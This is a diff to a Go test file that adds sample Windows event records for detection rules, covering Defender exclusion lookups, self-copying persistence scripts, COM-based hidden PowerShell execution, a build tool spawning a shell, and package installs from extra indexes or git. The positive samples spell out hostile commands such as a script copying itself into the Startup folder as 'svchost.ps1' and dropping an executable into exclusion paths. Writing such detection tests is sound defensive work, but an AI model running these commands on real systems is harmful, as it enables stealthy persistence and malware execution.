@@ -98,6 +98,102 @@ func init() {
 				"ScriptBlockText": `$p="TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA4fug4AtAnNIbgBTM0hVGhpcyBwcm9ncmFt"; [IO.File]::WriteAllBytes("$env:TEMP\u.exe",[Convert]::FromBase64String($p))`,
 			},
 		},
+		ruleSample{
+			ID:      "9ba444f5-9c4d-4644-869b-7f5dede4cabb", // Command Reads the Defender Exclusion List
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"CommandLine": `powershell.exe -c "Get-MpPreference | Select-Object -ExpandProperty ExclusionPath"`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "9ba444f5-9c4d-4644-869b-7f5dede4cabb", // Command Reads the Defender Exclusion List
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\reg.exe`,
+				"CommandLine": `reg query "HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "61302329-a4f8-4e19-a106-7b8c2befcaf1", // Script Reads the Defender Exclusion List
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$ex = (Get-MpPreference).ExclusionPath; foreach ($p in $ex) { Copy-Item .\a.exe $p }`,
+			},
+		},
+		ruleSample{
+			ID:      "61302329-a4f8-4e19-a106-7b8c2befcaf1", // Script Reads the Defender Exclusion List
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `Get-ItemProperty "HKLM:\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"`,
+			},
+		},
+		ruleSample{
+			ID:      "53c36ad9-e491-40c6-9303-f5f695b6a146", // Script Copies or Moves Its Own File Elsewhere
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `Copy-Item -Path $MyInvocation.MyCommand.Path -Destination "$env:APPDATA\Microsoft\Windows\Start Menu\Programs\Startup\svchost.ps1" -Force`,
+			},
+		},
+		ruleSample{
+			ID:      "53c36ad9-e491-40c6-9303-f5f695b6a146", // Script Copies or Moves Its Own File Elsewhere
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `[IO.File]::Move($PSCommandPath, "C:\ProgramData\WindowsUpdate\wuauclt.ps1")`,
+			},
+		},
+		ruleSample{
+			ID:      "b3e62427-e6cd-4e33-95f0-541038fd5a53", // JamPlus Build Tool Runs a Jam File or Starts a Shell
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Users\bob\Downloads\JamPlus\bin\jam.exe`,
+				"CommandLine": `jam.exe -f C:\Users\bob\Downloads\build.jam`,
+				"ParentImage": `C:\Windows\explorer.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "b3e62427-e6cd-4e33-95f0-541038fd5a53", // JamPlus Build Tool Runs a Jam File or Starts a Shell
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\cmd.exe`,
+				"CommandLine": `cmd.exe /c powershell -w hidden -f C:\Users\bob\AppData\Local\Temp\a.ps1`,
+				"ParentImage": `C:\Users\bob\Downloads\JamPlus\bin\jam.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "7a668ae1-b3ac-4aad-afcb-bd1d1b87ab8b", // Script Runs a Program Through a COM Object's Execute Method
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$c=[Activator]::CreateInstance([Type]::GetTypeFromProgID("MMC20.Application")); $c.Document.ActiveView.ExecuteShellCommand("cmd.exe",$null,"/c calc.exe","7")`,
+			},
+		},
+		ruleSample{
+			ID:      "7a668ae1-b3ac-4aad-afcb-bd1d1b87ab8b", // Script Runs a Program Through a COM Object's Execute Method
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$sw=[Activator]::CreateInstance([Type]::GetTypeFromCLSID("9BA05972-F6A8-11CF-A442-00A0C90A8F39")); $sw.Item().Document.Application.ShellExecute("powershell.exe","-nop -w hidden -f C:\Users\Public\p.ps1","C:\Windows\System32",$null,0)`,
+			},
+		},
+		ruleSample{
+			ID:      "2bf44b77-c6e1-43cc-86c7-0f76615a3fdf", // Python or Node Package Installed From a URL, Git Repository or Extra Index
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Users\bob\AppData\Local\Programs\Python\Python312\python.exe`,
+				"CommandLine": `python.exe -m pip install --extra-index-url https://pypi-mirror.example.net/simple requessts`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "2bf44b77-c6e1-43cc-86c7-0f76615a3fdf", // Python or Node Package Installed From a URL, Git Repository or Extra Index
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Program Files\nodejs\node.exe`,
+				"CommandLine": `"C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" npm install git+https://github.com/someone/colors-fork.git`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
 	)
 	ruleNegatives = append(ruleNegatives,
 		ruleSample{
@@ -218,6 +314,88 @@ func init() {
 			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
 			Fields: map[string]string{
 				"ScriptBlockText": `$logo="iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAA"; [IO.File]::WriteAllBytes("$env:TEMP\logo.png",[Convert]::FromBase64String($logo))`,
+			},
+		},
+		ruleSample{
+			ID:      "9ba444f5-9c4d-4644-869b-7f5dede4cabb", // Command Reads the Defender Exclusion List
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
+				"CommandLine": `powershell.exe -c "Get-MpPreference | Select-Object DisableRealtimeMonitoring"`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "9ba444f5-9c4d-4644-869b-7f5dede4cabb", // Command Reads the Defender Exclusion List
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\reg.exe`,
+				"CommandLine": `reg query "HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates"`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "61302329-a4f8-4e19-a106-7b8c2befcaf1", // Script Reads the Defender Exclusion List
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `Get-MpPreference | Select-Object DisableRealtimeMonitoring, SignatureScheduleDay`,
+			},
+		},
+		ruleSample{
+			ID:      "61302329-a4f8-4e19-a106-7b8c2befcaf1", // Script Reads the Defender Exclusion List
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$cur = (Get-MpPreference).ExclusionPath; if ($cur -notcontains "D:\SQLData") { Add-MpPreference -ExclusionPath "D:\SQLData" }`,
+			},
+		},
+		ruleSample{
+			ID:      "53c36ad9-e491-40c6-9303-f5f695b6a146", // Script Copies or Moves Its Own File Elsewhere
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$here = Split-Path -Parent $MyInvocation.MyCommand.Path; Copy-Item "$here\config.json" "$env:APPDATA\tool\config.json"`,
+			},
+		},
+		ruleSample{
+			ID:      "b3e62427-e6cd-4e33-95f0-541038fd5a53", // JamPlus Build Tool Runs a Jam File or Starts a Shell
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Tools\jam\jam.exe`,
+				"CommandLine": `jam.exe -v`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "b3e62427-e6cd-4e33-95f0-541038fd5a53", // JamPlus Build Tool Runs a Jam File or Starts a Shell
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Windows\System32\cmd.exe`,
+				"CommandLine": `cmd.exe /c echo jam.exe`,
+				"ParentImage": `C:\Windows\explorer.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "7a668ae1-b3ac-4aad-afcb-bd1d1b87ab8b", // Script Runs a Program Through a COM Object's Execute Method
+			Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
+			Fields: map[string]string{
+				"ScriptBlockText": `$sh = New-Object -ComObject Shell.Application; $sh.Namespace("C:\Users\bob\Downloads").Items() | Select-Object Name`,
+			},
+		},
+		ruleSample{
+			ID:      "2bf44b77-c6e1-43cc-86c7-0f76615a3fdf", // Python or Node Package Installed From a URL, Git Repository or Extra Index
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Users\bob\AppData\Local\Programs\Python\Python312\python.exe`,
+				"CommandLine": `python.exe -m pip install requests==2.32.3`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
+			},
+		},
+		ruleSample{
+			ID:      "2bf44b77-c6e1-43cc-86c7-0f76615a3fdf", // Python or Node Package Installed From a URL, Git Repository or Extra Index
+			Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
+			Fields: map[string]string{
+				"Image":       `C:\Program Files\nodejs\node.exe`,
+				"CommandLine": `"C:\Program Files\nodejs\node.exe" "C:\Program Files\nodejs\node_modules\npm\bin\npm-cli.js" install express`,
+				"ParentImage": `C:\Windows\System32\cmd.exe`,
 			},
 		},
 	)
